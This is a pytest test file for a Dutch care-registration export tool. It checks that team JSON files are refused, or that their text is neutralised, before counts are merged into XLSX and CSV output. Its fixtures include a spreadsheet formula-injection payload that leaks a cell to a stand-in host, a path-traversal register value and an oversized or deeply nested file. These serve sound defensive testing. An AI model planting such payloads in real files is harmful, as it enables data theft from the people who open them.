"""Team files are checked against the tables and columns this program makes before
anything is merged: a relabelled, added or moved column, a formula for a title, a count
that is no count, an oversized file are each refused in Dutch, and nothing is written.
No register needed: the files are made from counts built here."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bemoeizorg.exports import counts as counts_module
from bemoeizorg.exports.cells import starts_like_formula
from bemoeizorg.exports.counts import Counts, Period, empty_table, table_keys
from bemoeizorg.exports.counts_export import csv_bytes, publish, write_publication, xlsx_bytes
from bemoeizorg.exports.counts_team_file import (
    MAX_FILE_BYTES,
    TeamFileRefused,
    merge,
    read_team_file,
    team_file_data,
)

EVIL = '=HYPERLINK("http://x"&B3)'
PERIOD = Period.year(2025)
CODES = ("GM0983", "GM0984", "GM0957", "GM0988")  # Venlo, Venray, Roermond, Weert


def _counts(seed: int) -> Counts:
    tables = []
    for key in table_keys():
        table = empty_table(key, PERIOD, CODES)
        values = {
            (code, column): (seed * 7 + i * 3 + j) % 23
            for i, code in enumerate(CODES)
            for j, (column, _label) in enumerate(table.columns)
        }
        tables.append(replace(table, values={k: n for k, n in values.items() if n}))
    return Counts(PERIOD, CODES, tuple(tables))


def _data(seed: int = 1) -> dict[str, Any]:
    return team_file_data(_counts(seed), f"{seed:032x}")


def _write(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    return path


def _table(data: dict[str, Any], key: str) -> dict[str, Any]:
    found: dict[str, Any] = next(t for t in data["tabellen"] if t["sleutel"] == key)
    return found


def test_a_good_file_reads_back_as_written(tmp_path: Path) -> None:
    register_id, counts = read_team_file(_write(tmp_path / "een.json", _data(1)))
    assert register_id == f"{1:032x}"
    assert counts == _counts(1)


def test_merge_adds_up_under_the_programs_own_labels(tmp_path: Path) -> None:
    merged = merge(
        [_write(tmp_path / "een.json", _data(1)), _write(tmp_path / "twee.json", _data(2))]
    )
    one, two = _counts(1), _counts(2)
    for table in merged.tables:
        assert table == replace(empty_table(table.key, PERIOD, CODES), values=dict(table.values)), (
            table.key
        )
        for cell in {*one.table(table.key).values, *two.table(table.key).values}:
            want = one.table(table.key).value(*cell) + two.table(table.key).value(*cell)
            assert table.value(*cell) == want


def _set_title(data: dict[str, Any], text: str) -> None:
    _table(data, "meldingen")["titel"] = text


def _set_label(data: dict[str, Any], text: str) -> None:
    _table(data, "meldingen")["kolommen"][0][1] = text


def _set_total(data: dict[str, Any], text: str) -> None:
    _table(data, "zorgen")["totaal"] = text


def _set_note(data: dict[str, Any], text: str) -> None:
    _table(data, "open")["toelichting"] = text


CHANGES: dict[str, Callable[[dict[str, Any], str], None]] = {
    "titel": _set_title,
    "kolomnaam": _set_label,
    "totaal": _set_total,
    "toelichting": _set_note,
}


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("field", list(CHANGES))
def test_a_formula_in_a_team_file_is_refused_and_nothing_is_written(
    tmp_path: Path, field: str, suffix: str
) -> None:
    data = _data(1)
    CHANGES[field](data, EVIL)
    files = [_write(tmp_path / "kwaad.json", data), _write(tmp_path / "goed.json", _data(2))]
    out = tmp_path / f"samen{suffix}"
    with pytest.raises(TeamFileRefused) as refused:
        write_publication(publish(merge(files), 5), out)
    message = str(refused.value)
    assert message.startswith("kwaad.json: ") and "nieuw teambestand" in message, message
    assert EVIL not in message  # the file's own words are not echoed
    assert not out.exists()


def test_formulas_in_merged_titles_and_labels_are_written_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Even a title or label that passes the checks (here: the program's own, made evil)
    reaches the merged XLSX and CSV as text, never as a formula."""
    monkeypatch.setitem(counts_module.TITLES, "meldingen", EVIL)
    triage = counts_module.TRIAGE_COLUMNS
    monkeypatch.setattr(counts_module, "TRIAGE_COLUMNS", ((triage[0][0], EVIL), *triage[1:]))
    files = [_write(tmp_path / "een.json", _data(1)), _write(tmp_path / "twee.json", _data(2))]
    publication = publish(merge(files), 5)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(publication)))
    sheet = book["Meldingen"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == (EVIL, "s")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (EVIL, "s")
    formulas = [
        c.coordinate
        for s in book.worksheets
        for r in s.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []
    rows = csv.reader(io.StringIO(csv_bytes(publication).decode("utf-8-sig")), delimiter=";")
    fields = [f for row in rows for f in row]
    assert "'" + EVIL in fields
    assert not [f for f in fields if starts_like_formula(f)]


def _relabel(data: dict[str, Any]) -> None:
    _table(data, "meldingen")["kolommen"][0][1] = "Opgepakt (samen)"


def _extra_column_same_key(data: dict[str, Any]) -> None:
    """The attack that doubled a total: the same column key again under another label."""
    table = _table(data, "meldingen")
    table["kolommen"].append([table["kolommen"][0][0], "Opgepakt bis"])


def _moved_columns(data: dict[str, Any]) -> None:
    table = _table(data, "melders")
    table["kolommen"].reverse()


def _dropped_column(data: dict[str, Any]) -> None:
    _table(data, "kwartalen")["kolommen"].pop()


@pytest.mark.parametrize(
    "change", [_relabel, _extra_column_same_key, _moved_columns, _dropped_column]
)
def test_a_changed_column_is_refused_before_anything_is_added(
    tmp_path: Path, change: Callable[[dict[str, Any]], None]
) -> None:
    data = _data(1)
    change(data)
    files = [_write(tmp_path / "goed.json", _data(2)), _write(tmp_path / "anders.json", data)]
    with pytest.raises(TeamFileRefused, match="^anders.json: De kolommen van de tabel '") as caught:
        merge(files)
    assert "wijken af van die van dit programma" in str(caught.value)


def _no_count(value: object) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        _table(data, "melders")["waarden"][0][2] = value

    return change


def _twice(data: dict[str, Any]) -> None:
    rows = _table(data, "zorgen")["waarden"]
    rows.append(list(rows[0]))


def _unknown_column(data: dict[str, Any]) -> None:
    _table(data, "zorgen")["waarden"][0][1] = "iets-anders"


def _unknown_table(data: dict[str, Any]) -> None:
    _table(data, "open")["sleutel"] = "geheim"


def _table_twice(data: dict[str, Any]) -> None:
    data["tabellen"].append(dict(_table(data, "melders")))
    data["tabellen"].remove(_table(data, "geopend"))


def _missing_table(data: dict[str, Any]) -> None:
    data["tabellen"].remove(_table(data, "afgesloten:jeugd"))


def _extra_field(data: dict[str, Any]) -> None:
    _table(data, "melders")["opmaak"] = "=1"


def _set(key: str, value: object) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data[key] = value

    return change


REFUSALS: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("negatief", _no_count(-1), "geen geheel getal van 0 tot en met 10.000.000"),
    ("komma", _no_count(2.5), "geen geheel getal"),
    ("tekst", _no_count("7"), "geen geheel getal"),
    ("waar", _no_count(True), "geen geheel getal"),
    ("enorm", _no_count(10**12), "geen geheel getal"),
    ("dubbel aantal", _twice, "staat er twee keer in"),
    ("onbekende kolom", _unknown_column, "in een kolom die er niet is"),
    ("onbekende tabel", _unknown_table, "een tabel die dit programma niet kent"),
    ("tabel dubbel", _table_twice, "staat er twee keer in"),
    ("tabel ontbreekt", _missing_table, "ontbreekt"),
    ("extra veld", _extra_field, "onvolledig of beschadigd"),
    ("versie true", _set("versie", True), "andere versie"),
    ("register", _set("register", "../../x" * 20), "kenmerk van het register"),
    ("periode 1999", _set("periode", {"van": "1999-01-01", "tot": "2025-12-31"}), "tussen"),
    ("periode omgekeerd", _set("periode", {"van": "2025-12-31", "tot": "2025-01-01"}), "tussen"),
    ("periode kapot", _set("periode", {"van": 2025, "tot": "x"}), "periode"),
    ("gemeente", _set("gemeenten", ["GM0983", "GM9999"]), "onbekende gemeente"),
    ("gemeente dubbel", _set("gemeenten", ["GM0983", "GM0983"]), "twee keer"),
    ("geen gemeenten", _set("gemeenten", []), "gemeenten is leeg"),
]


@pytest.mark.parametrize(
    ("change", "message"), [r[1:] for r in REFUSALS], ids=[r[0] for r in REFUSALS]
)
def test_odd_team_files_are_refused_in_dutch(
    tmp_path: Path, change: Callable[[dict[str, Any]], None], message: str
) -> None:
    data = _data(1)
    change(data)
    with pytest.raises(TeamFileRefused, match="^vreemd.json: ") as caught:
        merge([_write(tmp_path / "goed.json", _data(2)), _write(tmp_path / "vreemd.json", data)])
    assert message in str(caught.value)


def test_an_oversized_or_deeply_nested_file_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "groot.json"
    big.write_bytes(b" " * (MAX_FILE_BYTES + 1))
    with pytest.raises(TeamFileRefused, match="groter dan 2 MB"):
        read_team_file(big)
    deep = tmp_path / "diep.json"
    deep.write_text("[" * 200_000, "utf-8")
    with pytest.raises(TeamFileRefused, match="onleesbaar"):
        read_team_file(deep)
